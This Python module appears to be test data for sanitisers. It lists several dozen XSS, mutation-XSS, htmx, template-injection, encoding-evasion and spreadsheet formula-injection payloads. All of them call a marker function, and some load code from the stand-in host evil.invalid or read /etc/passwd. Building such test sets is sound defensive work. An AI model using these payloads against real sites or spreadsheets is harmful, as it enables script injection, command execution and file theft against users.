"""What people might write to have a browser or a spreadsheet run it: each in another way, all calling ``hacked``."""

from __future__ import annotations

TAGS = (
    "<script>hacked()</script>",
    "<ScRiPt >hacked()</sCrIpT >",
    "<script src=data:text/javascript,hacked()></script>",
    "<script src=//evil.invalid/x.js></script>",
    '<script type="module">hacked()</script>',
    '<script type="importmap">{"imports":{"./live.js":"data:text/javascript,hacked()"}}</script>',
    "<scr<script>ipt>hacked()</scr</script>ipt>",
    "<img src=x onerror=hacked()>",
    "<img src=x:x onerror&#61;hacked()>",
    "<img/src/onerror=hacked()//",
    "<image href=x onerror=hacked()>",
    "<video><source onerror=hacked()></video>",
    "<audio src=x onerror=hacked()>",
    "<body onload=hacked()>",
    "<iframe src=javascript:hacked()></iframe>",
    '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
    "<object data=javascript:hacked()></object>",
    "<embed src=data:text/html,<script>hacked()</script>>",
    "<base href=//evil.invalid/>",
    '<meta http-equiv=refresh content="0;url=javascript:hacked()">',
    '<link rel=stylesheet href="data:text/css,*{--x:1}" onload=hacked()>',
    "<details open ontoggle=hacked()>",
    "<marquee onstart=hacked()>",
    "<input autofocus onfocus=hacked()>",
    "<select autofocus onfocus=hacked()>",
    "<a tabindex=1 autofocus onfocus=hacked() href=#>x",
    "<p style=animation-name:x onanimationstart=hacked()>",
    "<div onpointerover=hacked() onmouseover=hacked()>over</div>",
    "<dialog open onclose=hacked()><form method=dialog></form></dialog>",
    "<form action=javascript:hacked()><button autofocus>go</button></form>",
    "<button formaction=javascript:hacked() form=act>go</button>",
    "<textarea autofocus onfocus=hacked()></textarea>",
    "<video autoplay onloadstart=hacked() src=x>",
)
SVG = (
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><script href=data:,hacked() /></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:hacked() /><text y=9>x",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='hacked()'/>#x\"></svg>",
    "<svg><foreignObject><body onload=hacked()>",
    "<math><maction actiontype=statusline xlink:href=javascript:hacked()>x",
)
OUT_OF_ATTRIBUTES = (
    "'\"><svg/onload=hacked()>",
    '" autofocus onfocus=hacked() x="',
    "' autofocus onfocus='hacked()",
    "` onfocus=hacked() autofocus `",
    "--><img src=x onerror=hacked()><!--",
    "]]><img src=x onerror=hacked()>",
)
OUT_OF_ELEMENTS = (
    "</title><script>hacked()</script>",
    "</textarea><script>hacked()</script>",
    '</script><script>hacked()</script><script>"',
    "</style><script>hacked()</script>",
    "</select></table></noscript><script>hacked()</script>",
    "<!--<script>hacked()</script>",
    '"};hacked();//',
    "\\u003cscript\\u003ehacked()\\u003c/script\\u003e",
    "&lt;script&gt;hacked()&lt;/script&gt;",
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=hacked()>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hacked()&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=hacked()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hacked()>",
    "<template><img src=x onerror=hacked()></template>",
    '<template shadowrootmode="open"><img src=x onerror=hacked()></template>',
    "<table><tr><td><img src=x onerror=hacked()></table>",
)
HTMX = (
    '<div hx-on:load="hacked()" hx-on::load="hacked()" hx-on-load="hacked()">x</div>',
    '<div hx-get="data:text/html,x" hx-trigger="load[hacked()]">x</div>',
    '<div hx-get="/api/v1/session" hx-trigger="load" hx-vals="js:{x:hacked()}">x</div>',
    '<div data-hx-on:htmx:load="hacked()">x</div>',
    '<meta name="htmx-config" content=\'{"extensions":"hacked"}\'>',
    '<button data-act=\'{"method":"POST","path":"javascript:hacked()"}\' autofocus>x</button>',
    '<p id=live data-live="sample commands" data-every=1><img src=x onerror=hacked()>',
)
TEMPLATES = (
    "{{constructor.constructor('hacked()')()}}",
    "{{7*7}}{% include '/etc/passwd' %}",
    "${hacked()}",
    "#{hacked()}<%= hacked() %>",
    "{0.__class__.__init__.__globals__} %(hacked)s %n",
)
ADDRESSES = (
    "javascript:hacked()",
    "JaVaScRiPt&colon;hacked()",
    "java\tscript:hacked()",
    "\x01javascript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "vbscript:hacked()",
    "//evil.invalid/%2e%2e/",
    "[x](javascript:hacked())",
)
STYLES = (
    "x:expression(hacked())",
    "<style>@import'javascript:hacked()';*{background:url(//evil.invalid)}</style>",
    '"><p style="background:url(javascript:hacked())">',
)
UNICODE = (
    "\uff1cscript\uff1ehacked()\uff1c/script\uff1e",
    "\u02bcimg src=x onerror=hacked()\u02ba",
    "<\u0000script>hacked()</script>".replace("\u0000", "\ufffd"),
    "<img\u3000src=x\u2028onerror=hacked()>",
    "\u202e<script>hacked()</script>\u202c",
    "+ADw-script+AD4-hacked()+ADw-/script+AD4-",
    "\ufeff<script>hacked()</script>",
    "<\u0130MG src=x onerror=hacked()>",
)
FORMULAS = (
    '=HYPERLINK("javascript:hacked()","x")',
    "=cmd|'/C calc'!A1",
    "+1+cmd|' /C calc'!A1",
    "-2+3+cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A1",
    "\t=1+1",
)
PAYLOADS = (
    *TAGS, *SVG, *OUT_OF_ATTRIBUTES, *OUT_OF_ELEMENTS, *MUTATIONS, *HTMX, *TEMPLATES, *ADDRESSES, *STYLES, *UNICODE,
    *FORMULAS,
)  # fmt: skip
# What is no text at all, as another program may leave it in a stream.
BYTES = (
    b"<scr\0ipt>hacked()</script>",
    b"\xc0\xbcscript\xc0\xbehacked()\xc0\xbc/script\xc0\xbe",
    b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0h\0a\0c\0k\0e\0d\0(\0)\0",
    b"\x1b$B<img src=x onerror=hacked()>\x1b(B",
    b'{"\xff":"<img src=x onerror=hacked()>"}',
    b"\xed\xa0\x80<svg onload=hacked()>",
)
